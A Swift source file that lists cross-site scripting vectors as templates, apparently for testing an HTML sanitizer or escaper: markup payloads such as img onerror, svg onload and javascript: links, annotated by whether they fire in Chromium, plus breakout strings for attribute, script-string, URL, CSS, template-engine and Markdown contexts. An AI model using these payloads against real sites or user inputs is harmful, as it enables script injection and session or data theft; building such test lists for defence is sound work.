// Ways in which markup, or a text without any, runs a script.

/// A way of running a script, `¤` for the script.
struct HostileVector: Sendable {
    var name: String
    var template: String
    /// When a page that takes it as it is runs the script, in the Chromium of today.
    var fires = Firing.byItself

    enum Firing { case byItself, whenUsed, never }

    static let all: [HostileVector] = [
        .init(name: "script", template: "<script>¤</script>"),
        .init(name: "script module", template: "<script type=module>¤</script>"),
        .init(name: "script data", template: "<script src=\"data:text/javascript,¤\"></script>"),
        .init(name: "img onerror", template: "<img src=x: onerror=¤>"),
        .init(name: "img srcset", template: "<img srcset=x: onerror=\"¤\">"),
        .init(name: "image onerror", template: "<image src=x: onerror='¤'>"),
        .init(name: "svg onload", template: "<svg onload=¤>"),
        .init(name: "svg script", template: "<svg><script>¤</script></svg>"),
        .init(name: "svg image", template: "<svg><image href=x: onerror=¤></svg>"),
        .init(name: "svg animate", template: "<svg><animate onbegin=¤ attributeName=x dur=1s></svg>"),
        .init(name: "details", template: "<details open ontoggle=¤>x</details>"),
        .init(name: "body onload", template: "<body onload=¤>"),
        .init(name: "body onpageshow", template: "<body onpageshow=¤>"),
        .init(name: "input autofocus", template: "<input autofocus onfocus=¤>"),
        .init(name: "any autofocus", template: "<b tabindex=1 autofocus onfocus=¤>x</b>"),
        .init(name: "video", template: "<video src=x: onerror=¤></video>"),
        .init(name: "video source", template: "<video><source src=x: onerror=¤></video>"),
        .init(name: "audio", template: "<audio src=x: onerror=¤></audio>"),
        .init(name: "style onload", template: "<style onload=¤></style>"),
        .init(name: "link onerror", template: "<link rel=stylesheet href=x: onerror=¤>"),
        .init(name: "marquee", template: "<marquee onstart=¤>x</marquee>", fires: .never),
        .init(
            name: "animation",
            template: "<style>@keyframes k{to{top:0}}</style><b style=\"animation:k 1s\" onanimationstart=¤>x</b>"),
        .init(name: "iframe srcdoc", template: "<iframe srcdoc=\"<script>¤</script>\"></iframe>"),
        .init(name: "iframe address", template: "<iframe src=\"javascript:¤\"></iframe>"),
        .init(name: "object", template: "<object data=nowhere onerror=¤></object>"),
        .init(
            name: "hidden by noscript", template: "<noscript><p title=\"</noscript><img src=x: onerror=¤>\"></noscript>"
        ),
        .init(name: "link", template: "<a href=\"javascript:¤\">x</a>", fires: .whenUsed),
        .init(
            name: "svg link", template: "<svg><a href=\"javascript:¤\"><text y=9>x</text></a></svg>", fires: .whenUsed),
        .init(name: "form", template: "<form action=\"javascript:¤\"><button>x</button></form>", fires: .whenUsed),
        .init(
            name: "button", template: "<form><button formaction=\"javascript:¤\">x</button></form>", fires: .whenUsed),
        .init(
            name: "meta refresh", template: "<meta http-equiv=refresh content=\"0;url=javascript:¤\">", fires: .never),
        .init(name: "pointer", template: "<b onmouseover=¤ onclick=¤>x</b>", fires: .whenUsed),
    ]

    /// Texts for places that are within a tag, a script, a style, an address or a template already.
    static let withoutMarkup: [HostileVector] = [
        .init(name: "attribute, double", template: "\" autofocus tabindex=1 onfocus=¤ x=\""),
        .init(name: "attribute, single", template: "' autofocus tabindex=1 onfocus=¤ x='"),
        .init(name: "attribute, none", template: "x autofocus tabindex=1 onfocus=¤"),
        .init(name: "attribute, style", template: "\" style=\"animation:k 1s\" onanimationstart=\"¤"),
        .init(name: "string, double", template: "\";¤//"),
        .init(name: "string, single", template: "';¤//"),
        .init(name: "string, joined", template: "'-(¤)-'"),
        .init(name: "string, escaped", template: "\\';¤//"),
        .init(name: "string, template", template: "${¤}"),
        .init(name: "string, line", template: "\u{2028};¤;\u{2028}"),
        .init(name: "comment, script", template: "*/¤/*"),
        .init(name: "address", template: "javascript:¤"),
        .init(name: "address, mixed", template: "JaVaScRiPt:¤"),
        .init(name: "address, tab", template: "java\tscript:¤"),
        .init(name: "address, line", template: "java\nscr\ript:¤"),
        .init(name: "address, control", template: "\u{1}\u{1F} javascript:¤"),
        .init(name: "address, comment", template: "javascript://example.org/%0a¤"),
        .init(name: "address, entity", template: "javascript&colon;¤"),
        .init(name: "address, data", template: "data:text/html,<script>¤</script>"),
        .init(name: "address, view", template: "blob:javascript:¤"),
        .init(name: "style, end", template: "red;}</style><script>¤</script>"),
        .init(name: "style, address", template: "red;background:url(javascript:¤)"),
        .init(name: "style, import", template: "}@import 'data:text/css,*{x:¤}';{"),
        .init(name: "braces", template: "{{¤}}"),
        .init(name: "three braces", template: "{{{¤}}}"),
        .init(name: "braces, made", template: "{{constructor.constructor('¤')()}}"),
        .init(name: "template, percent", template: "<%= ¤ %>"),
        .init(name: "template, hash", template: "#{¤}"),
        .init(name: "Markdown link", template: "[x](javascript:¤)"),
        .init(name: "Markdown picture", template: "![x](x\"onerror=\"¤)"),
    ]
}
